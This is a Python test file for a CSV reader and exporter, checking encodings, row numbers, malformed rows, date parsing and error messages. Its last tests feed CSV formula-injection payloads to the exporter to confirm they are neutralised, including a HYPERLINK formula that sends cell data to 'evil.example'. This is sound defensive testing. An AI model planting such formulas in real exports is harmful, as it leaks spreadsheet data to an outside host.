"""Reading the CSV contracts (engage.csvio): structure, encoding, row numbers, dates."""

from __future__ import annotations

from datetime import date

import pytest

from engage.csvio import (
    MAX_ERRORS,
    ErrorCollector,
    ImportRejected,
    ImportSummary,
    RowError,
    chunked,
    parse_iso_date,
    read_csv,
)

REQUIRED = ("unit_id", "name", "parent_id")


def lines(*rows: str, bom: bool = False, eol: str = "\n") -> bytes:
    """CSV bytes (UTF-8) from text lines."""
    return (("\ufeff" if bom else "") + eol.join(rows) + eol).encode()


def rejected(data: bytes, **kwargs: object) -> ImportRejected:
    """The rejection that ``read_csv`` raises for ``data``."""
    with pytest.raises(ImportRejected) as info:
        read_csv(data, "units.csv", required=REQUIRED, **kwargs)  # type: ignore[arg-type]
    assert info.value.what == "units.csv"
    return info.value


def only(exc: ImportRejected) -> RowError:
    """The single error of a rejection."""
    assert len(exc.errors) == 1, exc.summary()
    return exc.errors[0]


def test_rows_are_numbered_like_a_spreadsheet_and_values_are_stripped() -> None:
    table = read_csv(
        lines("unit_id,name,parent_id", "R, Root ,", "A,Team A,R"), "units.csv", REQUIRED
    )
    assert table.header == ["unit_id", "name", "parent_id"]
    assert table.rows == [
        (2, {"unit_id": "R", "name": "Root", "parent_id": ""}),
        (3, {"unit_id": "A", "name": "Team A", "parent_id": "R"}),
    ]


def test_utf8_bom_is_accepted() -> None:
    table = read_csv(lines("unit_id,name,parent_id", "R,Café,", bom=True), "u", REQUIRED)
    assert table.header[0] == "unit_id"
    assert table.rows == [(2, {"unit_id": "R", "name": "Café", "parent_id": ""})]


def test_header_names_ignore_case_and_surrounding_spaces() -> None:
    table = read_csv(lines(" Unit_ID ,NAME,  parent_id", "R,Root,"), "u", REQUIRED)
    assert table.rows == [(2, {"unit_id": "R", "name": "Root", "parent_id": ""})]


def test_extra_columns_are_ignored_and_column_order_is_free() -> None:
    table = read_csv(
        lines("comment,parent_id,name,cost_centre,unit_id", "x,,Root,42,R"), "u", REQUIRED
    )
    assert table.rows == [(2, {"unit_id": "R", "name": "Root", "parent_id": ""})]


def test_optional_columns_are_read_when_present_and_absent_otherwise() -> None:
    data = lines("unit_id,name,parent_id,colour", "R,Root,,blue")
    assert read_csv(data, "u", REQUIRED, optional=("colour", "size")).rows == [
        (2, {"unit_id": "R", "name": "Root", "parent_id": "", "colour": "blue"})
    ]


def test_quoted_fields_may_hold_commas_quotes_and_line_breaks() -> None:
    data = lines(
        "unit_id,name,parent_id",
        'R,"Smith, Jones & Co",',
        'A,"The ""Best"" Team",R',
        'B,"Two',
        'lines",R',
        "C,After,R",
    )
    table = read_csv(data, "u", REQUIRED)
    names = [(row, v["name"]) for row, v in table.rows]
    assert names == [
        (2, "Smith, Jones & Co"),
        (3, 'The "Best" Team'),
        (4, "Two\nlines"),
        (5, "After"),  # a spreadsheet shows the two-line cell as one row
    ]


def test_crlf_line_endings() -> None:
    table = read_csv(lines("unit_id,name,parent_id", "R,Root,", eol="\r\n"), "u", REQUIRED)
    assert table.rows == [(2, {"unit_id": "R", "name": "Root", "parent_id": ""})]


def test_blank_lines_are_skipped_but_still_counted() -> None:
    table = read_csv(lines("unit_id,name,parent_id", "", "R,Root,", ",,", "A,A,R"), "u", REQUIRED)
    assert [row for row, _ in table.rows] == [3, 5]


def test_short_rows_are_rejected_rather_than_guessed() -> None:
    # a missing field may be a value that slid left; the row is refused, naming what is absent
    error = only(rejected(lines("unit_id,name,parent_id", "R,Root")))
    assert error.row == 2 and "missing: parent_id" in error.reason


def test_trailing_empty_fields_beyond_the_header_are_tolerated() -> None:
    # spreadsheets often save "R,Root,,," for a three-column sheet
    table = read_csv(lines("unit_id,name,parent_id", "R,Root,,,"), "u", REQUIRED)
    assert table.rows == [(2, {"unit_id": "R", "name": "Root", "parent_id": ""})]


def test_a_row_with_too_many_fields_is_rejected_with_its_row_number() -> None:
    exc = rejected(lines("unit_id,name,parent_id", "R,Root,", "A,Smith, Jones,R", "B,B,R"))
    error = only(exc)
    assert error.row == 3
    assert "4 fields" in error.reason
    assert "header has 3" in error.reason
    assert "row 3" in exc.summary()


def test_every_bad_row_is_reported_not_just_the_first() -> None:
    exc = rejected(lines("unit_id,name,parent_id", "A,x,y,z", "B,B,", "C,x,y,z"))
    assert [e.row for e in exc.errors] == [2, 4]
    assert exc.total == 2


def test_missing_required_column_is_named() -> None:
    error = only(rejected(lines("unit_id,name", "R,Root")))
    assert error.row == 1
    assert error.column == "parent_id"
    assert "missing required column" in error.reason
    assert "unit_id,name,parent_id" in error.reason


def test_several_missing_columns_are_all_named() -> None:
    error = only(rejected(lines("id,title,parent", "R,Root,")))
    assert error.row == 1
    assert error.column == "unit_id, name, parent_id"
    assert "missing required columns" in error.reason


def test_a_column_given_twice_is_rejected() -> None:
    error = only(rejected(lines("unit_id,name,parent_id,Name", "R,Root,,Other")))
    assert (error.row, error.column) == (1, "name")
    assert "twice" in error.reason


@pytest.mark.parametrize("data", [b"", b"\n\n", b"\xef\xbb\xbf", b" , ,\n"], ids=repr)
def test_empty_file_is_rejected(data: bytes) -> None:
    error = only(rejected(data))
    assert "empty" in error.reason
    assert "no header" in error.reason


def test_header_only_gives_no_rows() -> None:
    assert read_csv(lines("unit_id,name,parent_id"), "u", REQUIRED).rows == []


def test_latin1_file_is_rejected_naming_the_line_of_the_bad_byte() -> None:
    data = "unit_id,name,parent_id\nR,Root,\nA,Café,R\n".encode("latin-1")
    exc = rejected(data)
    error = only(exc)
    assert error.row == 3
    assert "not UTF-8" in error.reason
    assert "0xe9" in error.reason
    assert "CSV UTF-8" in error.reason  # tells the person how to fix it
    assert "nothing was imported" in exc.summary()


def test_utf16_file_is_rejected_with_a_hint() -> None:
    data = "unit_id,name,parent_id\nR,Root,\n".encode("utf-16")
    assert "UTF-16" in only(rejected(data)).reason


def test_nul_character_in_a_value_is_rejected() -> None:
    # PostgreSQL cannot store NUL in text: the import must say so before touching the database
    error = only(rejected(lines("unit_id,name,parent_id", "R,Root,", "A,Te\x00am,R")))
    assert (error.row, error.column) == (3, "name")
    assert "NUL" in error.reason


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-01-31", date(2024, 1, 31)),
        ("2024-02-29", date(2024, 2, 29)),
        ("2024-13-01", None),
        ("2023-02-29", None),
        ("2024-00-10", None),
        ("01/02/2024", None),
        ("20240101", None),
        ("2024-1-1", None),
        ("2024-01-01T00:00", None),
        ("2024-W01-1", None),
        ("\uff12\uff10\uff12\uff14-\uff10\uff11-\uff10\uff11", None),  # full-width digits
        ("", None),
    ],
)
def test_parse_iso_date(text: str, expected: date | None) -> None:
    assert parse_iso_date(text) == expected


def test_row_error_text_names_row_column_and_reason() -> None:
    assert str(RowError(5, "email", "is empty")) == "row 5, column email: is empty"
    assert str(RowError(5, None, "too many fields")) == "row 5: too many fields"
    assert str(RowError(None, None, "the file is empty")) == "the file is empty"


def test_summary_lists_the_first_problems_and_counts_the_rest() -> None:
    errors = [RowError(i, "name", "is empty") for i in range(2, 32)]
    exc = ImportRejected("units.csv", errors)
    text = exc.summary(limit=5)
    assert text.splitlines()[0] == "units.csv: nothing was imported, 30 problems found"
    assert "row 6, column name" in text
    assert "row 7," not in text
    assert text.splitlines()[-1].strip() == "… and 25 more"
    assert str(exc) == exc.summary()
    assert "1 problem found" in ImportRejected("x", errors[:1]).summary()


def test_collector_keeps_a_capped_list_but_counts_everything() -> None:
    errors = ErrorCollector()
    errors.raise_if_any("x")  # nothing recorded: no exception
    for i in range(MAX_ERRORS + 50):
        errors.add(i, "c", "bad")
    with pytest.raises(ImportRejected) as info:
        errors.raise_if_any("roster.csv")
    assert len(info.value.errors) == MAX_ERRORS
    assert info.value.total == MAX_ERRORS + 50
    assert f"{MAX_ERRORS + 50} problems" in info.value.summary()


def test_import_summary_message() -> None:
    summary = ImportSummary("units", 5, 2, 1, 2, notes=("Note.",))
    assert summary.message() == "units: 5 rows read — 2 created, 1 updated, 2 unchanged. Note."


def test_chunked() -> None:
    assert chunked([1, 2, 3, 4, 5], 2) == [[1, 2], [3, 4], [5]]
    assert chunked([], 3) == []


def test_an_unclosed_quote_is_refused_not_swallowed() -> None:
    data = b'unit_id,name,parent_id\nORG,"Org,\nL-1,Loc,ORG\n'
    with pytest.raises(ImportRejected) as info:
        read_csv(data, "units.csv", required=("unit_id", "name", "parent_id"))
    (error,) = info.value.errors
    assert error.row == 2 and "never closed" in error.reason


def test_a_short_row_names_the_missing_columns() -> None:
    data = b"unit_id,name,parent_id\nORG,Org,\nL-1,Loc\n"
    with pytest.raises(ImportRejected) as info:
        read_csv(data, "units.csv", required=("unit_id", "name", "parent_id"))
    (error,) = info.value.errors
    assert error.row == 3 and "missing: parent_id" in error.reason


def test_semicolons_and_utf16_get_a_hint() -> None:
    with pytest.raises(ImportRejected, match="semicolons"):
        read_csv(b"unit_id;name;parent_id\nA;B;\n", "units.csv", required=("unit_id",))
    utf16 = "unit_id,name,parent_id\nA,B,\n".encode("utf-16")
    with pytest.raises(ImportRejected, match="UTF-16"):
        read_csv(utf16, "units.csv", required=("unit_id",))


def test_text_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers() -> None:
    import csv
    import io

    from engage.csvio import export_csv

    evil = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    text = export_csv(
        ["unit_name", "value", "note"],
        [[evil, -0.25, "+1 more"], ["@SUM(A1)", 3, "\tx"], ["Harbour - east", -1, "-"]],
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + evil, "-0.25", "'+1 more"]
    assert rows[2] == ["'@SUM(A1)", "3", "'\tx"]
    assert rows[3] == ["Harbour - east", "-1", "'-"]  # only a leading sign is a formula


def test_a_spreadsheet_splitting_on_semicolons_cannot_cut_a_formula_out_of_a_cell() -> None:
    import csv
    import io

    from engage.csvio import export_csv

    text = export_csv(["unit_name", "value"], [["x;=1+1", 2.5], ["Plain", -3], ["a\t@b", 1]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["unit_name", "value"],
        ["x;=1+1", "2.5"],
        ["Plain", "-3"],
        ["a\t@b", "1"],
    ]
    for delimiter in (";", "\t", ","):  # however a spreadsheet guesses the separator
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            assert not any(cell.startswith(("=", "+", "@")) for cell in row), (delimiter, row)
    assert '"x;=1+1",2.5' in text  # the text quoted, the number still a number
